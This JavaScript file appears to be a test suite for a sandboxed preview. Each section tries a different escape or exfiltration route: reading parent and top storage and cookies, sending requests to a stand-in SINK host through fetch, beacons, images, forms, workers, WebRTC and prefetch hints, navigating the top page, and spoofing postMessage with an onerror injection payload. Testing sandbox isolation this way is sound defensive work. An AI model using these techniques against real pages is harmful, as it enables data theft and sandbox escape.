// Pages that try to get out of the preview, one a section. API is the playground's own origin, SINK a server elsewhere, DATAGRAMS a
// port there. What they ask for is named `stolen`, so that it is known where it arrives; `out` says that something was seen, and
// `quiet` goes on where something is refused.

// == parent document
quiet(() => out(parent.document.body.innerHTML.length));

// == storage of the top
quiet(() => out(top.localStorage.secret));
quiet(() => out(top.sessionStorage.secret));

// == frames by number
quiet(() => out(top[0].parent.document.title));
quiet(() => { parent.pwned = 1; });

// == cookies
quiet(() => document.cookie.includes("secret") && out(document.cookie));

// == own storage
quiet(() => localStorage.secret && out("local"));
quiet(() => sessionStorage.secret && out("session"));

// == databases
quiet(() => indexedDB.databases().then((all) => all.length && out("databases"), () => {}));
quiet(() => caches.keys().then((all) => all.length && out("caches"), () => {}));

// == fetch the API
for (const mode of ["cors", "no-cors"]) fetch(`${API}/playground/info?stolen`, { mode }).then(() => out("api"), () => {});

// == fetch elsewhere
for (const mode of ["cors", "no-cors"]) fetch(`${SINK}/stolen`, { mode }).then(() => out("net"), () => {});

// == XMLHttpRequest
quiet(() => {
  const ask = new XMLHttpRequest();
  ask.open("POST", `${API}/v1/completions?stolen`, false);
  ask.send("{}");
  out("answer");
});

// == beacon
quiet(() => navigator.sendBeacon(`${SINK}/stolen`, "x"));
fetch(`${SINK}/stolen`, { keepalive: true, method: "POST" }).catch(() => {});
document.body.insertAdjacentHTML("beforeend", `<a ping="${SINK}/stolen" href="#x">x</a>`);
document.querySelector("a").click();

// == WebSocket
quiet(() => { new WebSocket(`${SINK}/stolen`.replace("http", "ws")).onopen = () => out("socket"); });

// == EventSource
quiet(() => { new EventSource(`${API}/playground/info?stolen`).onopen = () => out("events"); });

// == WebTransport
quiet(() => new WebTransport(`${SINK}/stolen`.replace("http:", "https:")).ready.then(() => out("transport"), () => {}));

// == pictures
new Image().src = `${SINK}/stolen`;
document.body.style.background = `url(${SINK}/stolen)`;
document.body.insertAdjacentHTML("beforeend", `<svg><image href="${SINK}/stolen"/><use href="${SINK}/stolen#x"/></svg>
  <video src="${SINK}/stolen" poster="${SINK}/stolen"><track src="${SINK}/stolen" default></video><input type=image src="${SINK}/stolen">`);

// == scripts
const script = document.createElement("script");
script.src = `${SINK}/stolen`;
document.body.append(script);
import(`${SINK}/stolen`).catch(() => {});

// == styles
document.body.insertAdjacentHTML("beforeend", `<link rel=stylesheet href="${SINK}/stolen"><style>@import "${SINK}/stolen";
  @font-face { font-family: f; src: url(${SINK}/stolen) } body { font-family: f; cursor: url(${SINK}/stolen), auto }</style>`);

// == frames
document.body.insertAdjacentHTML("beforeend", `<iframe src="${API}/playground/?stolen"></iframe><object data="${SINK}/stolen"></object>
  <embed src="${SINK}/stolen"><fencedframe></fencedframe>`);

// == srcdoc
const inner = document.createElement("iframe");
inner.srcdoc = `<script>fetch("${SINK}/stolen"); new Image().src = "${SINK}/stolen"; top.location = "${SINK}/stolen"<\/script>`;
document.body.append(inner);

// == blank frame
const blank = document.createElement("iframe");
document.body.append(blank);
quiet(() => blank.contentWindow.fetch(`${SINK}/stolen`).then(() => out("blank"), () => {}));
quiet(() => { new blank.contentWindow.Image().src = `${SINK}/stolen`; });

// == blob page
const stolen = `<script>fetch("${SINK}/stolen"); new Image().src = "${SINK}/stolen"<\/script>`;
location = URL.createObjectURL(new Blob([stolen], { type: "text/html" }));

// == data page
location = `data:text/html,<script>fetch("${SINK}/stolen"); new Image().src = "${SINK}/stolen"<\/script>`;

// == top navigation
quiet(() => { top.location = `${SINK}/stolen`; });
quiet(() => top.location.replace("javascript:pwned=1"));
quiet(() => window.open(`${SINK}/stolen`, "_top"));

// == own navigation
location = `${SINK}/stolen`;

// == meta refresh
document.head.insertAdjacentHTML("beforeend", `<meta http-equiv=refresh content="0;url=${SINK}/stolen">`);

// == base
document.head.insertAdjacentHTML("beforeend", `<base href="${SINK}/" target=_top>`);
document.body.insertAdjacentHTML("beforeend", "<a href=stolen>x</a><img src=stolen>");
document.querySelector("a").click();

// == popups
quiet(() => window.open(`${SINK}/stolen`) && out("popup"));
document.body.insertAdjacentHTML("beforeend", `<a href="${SINK}/stolen" target=_blank>x</a>`);
document.querySelector("a").click();

// == forms
for (const [action, target] of [[`${API}/v1/completions?stolen`, "_self"], [`${SINK}/stolen`, "_top"], [`${SINK}/stolen`, "_blank"]]) {
  const form = Object.assign(document.createElement("form"), { action, target, method: "post" });
  document.body.append(form);
  form.submit();
}

// == workers
const work = `fetch("${SINK}/stolen")`;
quiet(() => new Worker(URL.createObjectURL(new Blob([work]))));
quiet(() => new Worker(`data:text/javascript,${work}`));
quiet(() => new SharedWorker(`data:text/javascript,${work}`));

// == service worker
quiet(() => navigator.serviceWorker.register("sw.js").then(() => out("registered"), () => {}));

// == spoofed messages
for (const line of [1, -1, 1e300, {}, "<b>"]) {
  parent.postMessage({ mezzotint: { kind: "error", text: `<img src="${SINK}/stolen" onerror=pwned=1>`, line } }, "*");
}
parent.postMessage({ mezzotint: { kind: "__proto__", text: "x" } }, "*");
parent.postMessage(null, "*");

// == WebRTC
const call = (where) => quiet(() => {
  const peer = new where.RTCPeerConnection({ iceServers: [{ urls: `stun:${DATAGRAMS}` }] });
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
});
call(window);
document.body.append(document.createElement("iframe"));
call(window[0]);
document.body.insertAdjacentHTML("beforeend", "<iframe></iframe><object></object>");
quiet(() => call(document.querySelectorAll("iframe")[1].contentDocument.defaultView));
const shadow = document.createElement("iframe");
document.body.attachShadow({ mode: "open" }).append(shadow);
quiet(() => call(shadow.contentWindow));
const again = `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:${DATAGRAMS}" }] });
  peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
for (const parent of [document.body, document.body.shadowRoot || document.head]) {
  parent.append(Object.assign(document.createElement("iframe"), { srcdoc: `<script>${again}<\/script>` }));
}
document.head.innerHTML += `<template shadowrootmode=closed><iframe srcdoc="<script>${again.replaceAll('"', "'")}<\/script>"></iframe></template>`;

// == hints
for (const rel of ["preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "modulepreload", "icon", "manifest"]) {
  document.head.append(Object.assign(document.createElement("link"), { rel, as: rel === "preload" ? "image" : "", href: `${SINK}/stolen` }));
}
const rules = Object.assign(document.createElement("script"), { type: "speculationrules" });
rules.textContent = JSON.stringify({ prefetch: [{ urls: [`${SINK}/stolen`] }], prerender: [{ urls: [`${SINK}/stolen`] }] });
document.head.append(rules);

// == dialogs
quiet(() => { if (confirm("?")) out("confirm"); });
quiet(() => { if (prompt("?") !== null) out("prompt"); });
quiet(() => alert(1));
quiet(() => print());

// == downloads
document.body.insertAdjacentHTML("beforeend", "<a href='data:text/plain,x' download=stolen>x</a>");
document.querySelector("a").click();

// == the user's things
quiet(() => navigator.clipboard.readText().then(() => out("clipboard"), () => {}));
quiet(() => navigator.geolocation.getCurrentPosition(() => out("place"), () => {}));
quiet(() => document.body.requestFullscreen().then(() => out("fullscreen"), () => {}));
